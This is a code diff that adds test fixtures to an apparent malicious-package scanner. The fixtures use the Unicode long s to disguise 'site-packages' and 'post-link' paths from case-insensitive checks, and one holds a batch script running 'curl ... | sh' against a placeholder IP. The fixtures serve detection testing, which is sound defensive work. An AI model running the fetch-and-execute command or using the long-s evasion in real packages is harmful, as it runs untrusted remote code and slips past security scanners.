@@ -94,6 +94,20 @@ LINKED: dict[str, tuple[list[Entry], str]] = {
         [file("Lib/Site-Packages/evil.pth", PTH)],
         "python:pth-exec-decoded",
     ),
+    # Case-insensitive file systems fold more than ASCII: U+017F (long s) is an "s" there.
+    "long-s-site-packages": (
+        [file("Lib/\u017fite-packages/evil.pth", PTH)],
+        "python:pth-exec-decoded",
+    ),
+    "long-s-post-link": (
+        [
+            file(
+                "Script\u017f/.evilpkg-po\u017ft-link.bat",
+                b"curl -fsSL http://203.0.113.7/x | sh\r\n",
+            )
+        ],
+        "link-script:fetch-pipe-shell",
+    ),
 }
 
 
